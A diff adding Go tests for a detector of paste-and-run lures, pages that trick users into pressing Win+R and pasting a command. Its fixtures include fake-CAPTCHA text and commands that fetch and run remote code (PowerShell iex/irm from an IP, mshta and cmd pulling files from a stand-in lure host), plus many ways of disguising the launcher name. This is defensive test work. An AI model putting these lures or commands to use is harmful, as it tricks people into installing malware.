@@ -64,17 +64,106 @@ func TestPasteCommand(t *testing.T) {
 	}
 }
 
+// TestPasteCompact: the compacted text drops tags, white space and
+// invisible characters and decodes the references for ASCII characters;
+// pasteRef reads numeric references with or without ';' and the named
+// ones it knows.
+func TestPasteCompact(t *testing.T) {
+	for _, tc := range []struct{ doc, want string }{
+		{"Press <kbd>Win</kbd>&nbsp;+&NBSP;<kbd>R</kbd>", "presswin+r"},
+		{"power&#115;hell &#x6D;sh&#X74;a &#112owershell", "powershellmshtapowershell"},
+		{"po\u200bwer\u00adsh\u2060el\ufeffl\u3000x\u2009y", "powershellxy"},
+		{"a&shy;b&zwnj;c&zwj;d&ZeroWidthSpace;e&NoBreak;f&#8203;g&#173;h&#xA0;i", "abcdefghi"},
+		{"Win&plus;R &#43;", "win+r+"},
+		{"&amp; &SHY; &#0; &#xd800; &#1114112; &#8217; &#", "&amp;&shy;&#0;&#xd800;&#1114112;&#8217;&#"},
+		{"café \u00e9 <b", "café\u00e9<b"},
+	} {
+		if got := string(pasteCompact([]byte(tc.doc))); got != tc.want {
+			t.Errorf("pasteCompact(%q) = %q, want %q", tc.doc, got, tc.want)
+		}
+	}
+	for _, l := range pasteLaunchers {
+		if l.at >= len(l.name) || !containsLauncher([]byte("x"+l.name)) || containsLauncher([]byte(l.name[1:])) {
+			t.Errorf("launcher %q: anchor %d misread", l.name, l.at)
+		}
+	}
+}
+
 // FuzzPasteCommand: pasteCommand never fails, and the text it reads is
 // never longer than the document, nor holds white space or upper-case
 // ASCII letters.
 func FuzzPasteCommand(f *testing.F) {
 	f.Add([]byte("Press <kbd>Win</kbd>&nbsp;+&nbsp;<kbd>R</kbd>, Ctrl+V: powershell -enc x"))
 	f.Add([]byte("<<<>+<b+&nbsp;cmd /c \xc2\xa0"))
+	f.Add([]byte("Win+R ctrl v p&#x6F;wer\u200bsh&shy;ell &#1114112;&#0000000000115; &#X6d&#"))
 	f.Fuzz(func(t *testing.T, doc []byte) {
 		pasteCommand(doc)
 		c := pasteCompact(doc)
-		if len(c) > len(doc) || bytes.ContainsAny(c, " \t\r\nABCDEFGHIJKLMNOPQRSTUVWXYZ") {
+		if len(c) > len(doc) || bytes.ContainsAny(c, " \t\r\nABCDEFGHIJKLMNOPQRSTUVWXYZ\u00a0\u200b\u00ad") {
 			t.Fatalf("compacted %q to %q", doc, c)
 		}
+		want := false
+		for _, l := range pasteLaunchers {
+			want = want || bytes.Contains(c, []byte(l.name))
+		}
+		if containsLauncher(c) != want {
+			t.Fatalf("containsLauncher(%q) = %v, want %v", c, !want, want)
+		}
 	})
+}
+
+// TestPasteCommandDisguised: a paste-and-run lure whose launcher (or key
+// name) is spelled with character references ("power&#115;hell"), split by
+// invisible characters (zero-width space, joiners, word joiner, soft
+// hyphen, raw or as references) or by tags ("power<span>shell</span>"),
+// or written in mixed case or lower-case keys without "+", reads as the
+// launcher and the keys; the same disguises in a how-to that has the
+// reader type, in a newsletter's invisible preheader padding, or in text
+// without the Run dialog, do not.
+func TestPasteCommandDisguised(t *testing.T) {
+	const (
+		plus   = "Verify you are human: press Win + R, then Ctrl + V and Enter.\n"
+		noPlus = "Verify you are human: press the Windows key and R, then CTRL and V, then Enter.\n"
+		tail   = " -w hidden -c \"iex(irm 198.51.100.7/v)\""
+	)
+	for _, tc := range []struct {
+		name string
+		doc  string
+		want bool
+	}{
+		{"decimal reference", plus + "power&#115;hell" + tail, true},
+		{"hexadecimal reference", plus + "&#x6d;shta https://cdn.lure.example/c.hta", true},
+		{"reference for the first letter", plus + "&#112;owershell" + tail, true},
+		{"upper-case hexadecimal reference", plus + "&#X70;&#X77;sh" + tail, true},
+		{"zero-width space", plus + "power\u200bshell" + tail, true},
+		{"zero-width non-joiner", plus + "ms\u200chta https://cdn.lure.example/c.hta", true},
+		{"zero-width joiner", plus + "p\u200do\u200dw\u200dershell" + tail, true},
+		{"word joiner", plus + "power\u2060shell" + tail, true},
+		{"soft hyphen", plus + "power\u00adshell" + tail, true},
+		{"byte order mark", plus + "power\ufeffshell" + tail, true},
+		{"soft hyphen as a named reference", plus + "power&shy;shell" + tail, true},
+		{"zero-width references", plus + "power&ZeroWidthSpace;sh&zwnj;e&zwj;ll&NoBreak;" + tail, true},
+		{"zero-width space as a numeric reference", plus + "power&#8203;shell" + tail, true},
+		{"tags inside the launcher", plus + "power<span>shell</span>" + tail, true},
+		{"keys without '+', a reference", noPlus + "power&#115;hell" + tail, true},
+		{"keys without '+', a zero-width space", noPlus + "ms\u200bhta https://cdn.lure.example/c.hta", true},
+		{"keys without '+', tags inside the launcher", noPlus + "<p>power<span>shell</span>" + tail + "</p>", true},
+		{"keys without '+', mixed case", noPlus + "PoWeRsHeLl" + tail, true},
+		{"keys without '+', mixed case cmd", noPlus + "CmD /c start /min https://cdn.lure.example/c.exe", true},
+		{"keys in lower case without '+'", "to verify you are human press win r then ctrl v then enter\n" + "powershell" + tail, true},
+		{"a key name split by a zero-width space", "Press W\u200bin + R, paste with Ctrl + V: powershell" + tail, true},
+		{"a key name split by a reference, no '+'", "Please press the Win&#100;ows key and R, then CTRL and V.\n" + "powershell" + tail, true},
+		{"a key name split by a soft hyphen, no '+'", "Please press the Win\u00addows key and R, then CTRL and V.\n" + "powershell" + tail, true},
+
+		{"a how-to, a reference, typed", "Press Win+R, type power&#115;hell and press Enter, then run Get-Service.", false},
+		{"a how-to without '+', mixed case, typed", "Press the Windows key and R, type PowerShell and press Enter.", false},
+		{"preheader padding beside Windows and paste", "<div style=\"display:none\">Windows 11 tips&zwnj;&nbsp;&zwnj;&nbsp;\u200c\u00ad</div><p>Copy and paste the coupon code at checkout.</p>", false},
+		{"a launcher with references, no keys", "Open power&#115;hell and paste the script below.", false},
+		{"lower-case words that are no keys", "the window is open; paste the link in your browser and run the cmd.exe installer", false},
+		{"a reference that is no letter", plus + "power&#0;shell" + tail, false},
+	} {
+		if got := pasteCommand([]byte(tc.doc)); got != tc.want {
+			t.Errorf("%s: pasteCommand(%q) = %v, want %v", tc.name, tc.doc, got, tc.want)
+		}
+	}
 }
